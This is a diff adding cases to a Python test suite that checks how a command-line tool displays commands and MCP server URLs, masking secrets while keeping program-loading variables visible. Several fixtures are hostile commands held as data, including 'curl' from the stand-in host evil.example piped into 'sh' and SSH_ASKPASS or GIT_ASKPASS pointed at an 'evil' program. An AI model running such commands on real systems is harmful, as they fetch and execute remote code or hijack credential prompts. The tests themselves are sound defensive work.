@@ -300,6 +300,17 @@ def test_where_secrets_go_and_what_loads_code_is_shown(cli: CommandLine):
         (["other", "--pass", "--volume=/:/host"], "other --pass --volume=/:/host"),
         (["other", "--no-token", "evil"], "other --no-token evil"),
         (["other", "--token", "hunter2"], "other --token …"),
+        (["env", "SSH_ASKPASS=./evil-program", "ssh", "host"], "env SSH_ASKPASS=./evil-program ssh host"),
+        (["sh", "-c", "GIT_ASKPASS=./evil git clone x"], "sh -c 'GIT_ASKPASS=./evil git clone x'"),
+        (["sh", "-c", "PASS=/tmp/evil; $PASS"], "sh -c 'PASS=/tmp/evil; $PASS'"),
+        (
+            ["sh", "-c", "API_KEY=evil.example/x.sh; curl $API_KEY|sh"],
+            "sh -c 'API_KEY=evil.example/x.sh; curl $API_KEY|sh'",
+        ),
+        (["env", "TOKEN=ghp_Zx81kQpLmN42vTrW90aBcDeFgHiJkLmNoPqR", "other"], "env TOKEN=… other"),
+        (["git", "-c", "core.askPass=./evil", "fetch"], "git -c core.askPass=./evil fetch"),
+        (["other", "--askpass", "evil-program"], "other --askpass evil-program"),
+        (["other", "DB_PASS=hunter2"], "other DB_PASS=…"),
     ],
 )
 def test_no_word_that_may_be_started_hides_behind_the_flag_of_a_secret(
@@ -318,6 +329,11 @@ def test_no_word_that_may_be_started_hides_behind_the_flag_of_a_secret(
         ("http://evil.example\t@api.github.com/mcp", None),
         ("http://evil.example @api.github.com/mcp", None),
         ("http://evil.example\u200b/mcp", None),
+        ("http:/user:S3cret@api.github.com/mcp", None),
+        ("http:user:S3cret@api.github.com/mcp", None),
+        ("https://user:hunter2/S3cret@api.github.com/mcp", None),
+        ("https://user:hunt?S3cret@api.github.com/mcp", None),
+        ("htps://user:S3cret@api.github.com/mcp", None),
         ("http://evil.example?@api.github.com/mcp", "http://evil.example"),
         ("http://evil.example/@api.github.com/mcp", "http://evil.example/…"),
         ("http://evil.example:8/?@api.github.com/mcp", "http://evil.example:8/"),
@@ -337,6 +353,7 @@ def test_the_host_that_is_shown_is_the_one_that_is_reached(
         assert f"servers.github.{key}: " in error["message"]
         assert "URL" in error["message"]
         assert "api.github.com" not in error["message"]
+        assert "S3cret" not in json.dumps(error)
     else:
         assert error["code"] == "UNTRUSTED_CONFIGURATION"
         if "$" not in url:
